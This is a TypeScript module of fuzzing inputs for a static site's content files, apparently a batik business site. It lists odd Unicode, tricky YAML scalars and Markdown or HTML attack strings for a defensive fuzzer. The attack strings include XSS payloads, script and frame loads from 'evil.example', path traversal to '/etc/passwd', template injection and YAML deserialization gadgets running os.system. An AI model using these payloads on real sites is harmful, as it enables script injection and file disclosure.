/**
 * What a tired editor pastes and an attacker types: the raw material the fuzzer mixes into
 * content files (docs/bad-inputs.md). Each list is small and pointed; fast-check combines them
 * with random text, so the fuzzer reaches both the cases we thought of and their neighbours.
 */
import { z } from "zod";
import { SCHEMAS } from "../schema/index.ts";

/** Every field name any content file may use, at any depth, read from the schemas themselves. */
export function schemaKeys(): string[] {
  const keys = new Set<string>();
  const walk = (node: unknown): void => {
    if (!node || typeof node !== "object") return;
    const schema = node as Record<string, unknown>;
    if (schema.properties && typeof schema.properties === "object")
      for (const [key, inner] of Object.entries(schema.properties)) {
        keys.add(key);
        walk(inner);
      }
    for (const part of ["items", "anyOf", "allOf", "oneOf"]) {
      const inner = schema[part];
      if (Array.isArray(inner)) inner.forEach(walk);
      else walk(inner);
    }
  };
  for (const kind of Object.values(SCHEMAS)) for (const schema of Object.values(kind)) walk(z.toJSONSchema(schema as z.ZodType, { unrepresentable: "any", io: "input" }));
  return [...keys];
}

/** Keys with a meaning elsewhere: Eleventy's, JavaScript's object internals, YAML's merge key. */
export const SPECIAL_KEYS = ["permalink", "layout", "eleventyComputed", "tags", "pagination", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "<<", "", "1", "null", "true", "~", "? [a, b]", "-", "?"];

/** Characters that render invisibly, reorder text, end lines in other ways or upset a terminal. */
export const NASTY_CHARACTERS = [
  "\u0000", "\u0007", "\u0008", "\u000b", "\u000c", "\u001b[2J\u001b[31m", "\u007f", "\u0085", "\u00a0",
  "\u200b", "\u200d", "\u200e", "\u200f", "\u202a", "\u202e", "\u2066", "\u2069", "\u2028", "\u2029", "\ufeff", "\ufffd",
  "\ud800", "\udfff", "😀", "👨‍👩‍👧", "🇮🇩", "e\u0301", "مرحبا", "שלום", "\t", "\r", "\n", "\\", "'", '"', ":", ": ", " #", "#", "- ", "? ", "&", "*", "!", "|", ">", "%", "@", "`", "{", "}", "[", "]", ",",
];

/** Lone halves of surrogate pairs and Unicode non-characters: never text, and once a renderer crash. */
export const BROKEN_CHARACTERS = ["\ud800", "\udbff", "\udc00", "\udfff", "\ufdd0", "\ufdef", "\ufffe", "\uffff", "\u{1fffe}", "\u{10fffe}", "\u{10ffff}"];

/** Scalars YAML reads in surprising ways, and values each field has a rule against. */
export const TRICKY_SCALARS = [
  "~", "null", "Null", "NULL", "true", "yes", "no", "on", "off", "y", "n", ".inf", "-.inf", ".nan", "0x1F", "0o17", "0b101", "1e400", "-1e400", "1_000", "+12", "-0",
  "0812345678", "08123456789012345678", "+62 812 3456 7890", "62812", "9999999999999999999999999", "-1", "0", "1.5", "12:30", "25:61", "99:99",
  "2024-02-30", "2024-13-45", "30/02/2024", "2024-02-29", "2027-01-10 19:00", "2027-01-10T19:00", "2027-01-10 24:00", "2027-1-1", "2024-02-29T25:00:00Z",
  "WIB", "WITA", "WIT", "UTC", "senin", "lembar", "halal", "tokopedia", "peragaan-busana", "ditunda",
  "foto/kain.jpg", "foto/sentra.jpg", "foto/../../../etc/passwd", "/etc/passwd", "https://contoh.com/a.jpg", "foto/a.svg", "foto/", "foto//kain.jpg", "C:\\foto\\a.jpg", "foto/tidak-ada.png",
  "https://contoh.go.id/", '"https://contoh.go.id/\\u0000x"', '"https://contoh.go.id/\\u202ex"', '"https://contoh.go.id/\\u0085"', "https://evil.example/batik.satu", "https://tokopedia.com@evil.example/", "http://www.instagram.com/batik.satu",
  "a@b.co?bcc=c@d.e&subject=x", "a@b.co, c@d.e", "a@b@c.co", "\"Tapis \\ud800\"", "\"Tapis \\uFFFE\"", "javascript:alert(1)", "http://localhost", "https://", "mailto:a@b.c", "a@b.co", "@batik.satu", "batik-satu", "batik-dua", "Batik Satu", "../batik-satu", "tidak-ada",
  "''", '""', "'", '"', "|", ">", "|-\n  a\n  b", ">+\n  a", "[]", "{}", "[a, b]", "{a: 1}", "[[[]]]", "- a", "-", "---", "...", "%YAML 1.1", "%TAG ! tag:x,2000:",
];

/** Front-matter openers: the YAML one, other languages gray-matter or Eleventy would run, and near misses. */
export const OPENERS = ["---", "--- ", "---\t", "---js", "---javascript", "---jsLegacy", "--- js", "---toml", "---yaml", "---YAML", "---json", "----", "--", "+++", "", "﻿---", "---\u0000", " ---", "---#", "---coffee"];

/** YAML that is fine alone but dangerous, surprising or huge as a value. */
export const YAML_FEATURES = [
  "&a [x, y]", "*a", "&a x", "!!binary aGVsbG8=", "!!set {a, b}", "!!omap [a: 1]", "!!str 0812", "!!int '12'", "!!float .5", "!!timestamp 2001-12-14", "!!js/function 'function(){ require(\"fs\") }'",
  "!!python/object/apply:os.system ['id']", "!custom x", "!<tag:yaml.org,2002:str> x", "!!null ''", "!!bool yes",
  "\n  <<: *a", "\n  <<: {nama: x}", "\n  - &b [1]\n  - *b", "\n  a: &c\n    b: 1\n  d: *c",
];

/** Markdown and HTML that would run script, load a frame, restyle the page or leave the site, if let through. */
export const MARKDOWN_PAYLOADS = [
  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
  "<iframe src=https://evil.example></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=x.swf>", "<embed src=x>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
  "<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<p style=\"background:url(javascript:alert(1))\">x</p>", "<details open ontoggle=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<form action=//evil.example><input name=p></form>",
  "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](java&#x09;script:alert(1))", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)",
  "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](data:image/svg+xml,<svg onload=alert(1)>)", "[x](file:///etc/passwd)", "[x](//evil.example)", "[x](/\\evil.example)", "[x](\\\\evil.example)",
  "![x](javascript:alert(1))", "![x](https://evil.example/track.png)", "![x](foto/kain.jpg \"t\" onerror=alert(1))", "<javascript:alert(1)>", "<vbscript:x>", "<data:text/html,x>", "javascript:alert(1)", "www.evil.example/\"onmouseover=alert(1)",
  "[x][r]\n\n[r]: javascript:alert(1)", "[x][r]\n\n[r]: <javascript:alert(1)> \"t\"", "[x](https://ok.example \"\\\"onmouseover=alert(1)\")", "[x](https://ok.example/\"onmouseover=\"alert(1))",
  "| a | b |\n|:-|-:|\n| 1 | 2 |", "```\"><script>alert(1)</script>\nx\n```", "```js onload=alert(1)\nx\n```", "~~~ <img src=x onerror=alert(1)>\nx\n~~~", "    <script>alert(1)</script>",
  "<!-- <script>alert(1)</script> -->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "${7*7}", "<%= 7*7 %>",
  "&lt;script&gt;", "&#60;script&#62;", "&#x3C;script", "\\<script>alert(1)</script>", "`<script>alert(1)</script>`", "<a\nhref=javascript:alert(1)>x</a>", "<a href=javascript&#58;alert(1)>x</a>",
  "# Judul", "###### h6", "> kutipan", "- [ ] tugas", "1. satu\n2. dua", "***", "a  \nb", "*".repeat(200), "_".repeat(200), "[".repeat(300), `${"> ".repeat(200)}x`, `${"- ".repeat(200)}x`,
  "mailto:x@y.z", "tel:+6281234567890", "[x](mailto:javascript:alert(1))", "[x](tel:javascript:alert(1))", "[x](#\"onclick=alert(1))", "[x](/jalan\"onclick=alert(1))",
];
